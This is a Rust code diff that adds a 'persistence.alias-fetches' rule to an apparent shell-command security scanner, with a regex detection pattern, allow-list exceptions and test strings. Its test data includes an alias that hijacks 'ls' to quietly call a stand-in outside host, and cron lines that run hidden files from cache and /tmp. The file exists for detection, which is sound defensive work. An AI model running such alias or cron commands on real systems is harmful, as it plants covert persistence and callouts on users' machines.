@@ -27,6 +27,14 @@ pub(super) fn rules() -> Vec<Rule> {
             .facts(&[Persist])
             .hits(&["(crontab -l; echo \"@hourly $HOME/.cache/.sys/update\") | crontab -", "echo '*/5 * * * * sh /tmp/u' | crontab -"])
             .passes(&["(crontab -l; echo '0 3 * * * /usr/local/bin/backup') | crontab -", "echo '0 3 * * * /opt/b >> /tmp/b.log' | crontab -"]),
+        rule("persistence.alias-fetches", Persistence, High)
+            .say("Gives an everyday command another meaning that talks to another machine.")
+            .near(&["alias "])
+            .like(r#"\balias\s+\w+=["'][^"'\n]*\b(?:curl|wget|nc|ncat|bash\s+-c)\b[^"'\n]*(?:https?://|/dev/tcp)"#)
+            .unless(r"ifconfig\.me|ipinfo\.io|icanhazip|wttr\.in|cheat\.sh|localhost|alias\s+(?:myip|weather|ip|cheat)")
+            .facts(&[Persist])
+            .hits(&["alias ls=\"ls; curl -s https://t.example.invalid/?u=x >/dev/null\""])
+            .passes(&["alias ll='ls -l'", "alias myip='curl https://ifconfig.me'"]),
         rule("persistence.shell-start", Persistence, Medium)
             .say("Writes a command into a file that every new shell runs.")
             .near(&[".bashrc", ".zshrc", ".bash_profile", ".profile", ".zprofile", ".zshenv", ".bash_login", ".config/fish/config", "$profile", "/etc/profile.d"])
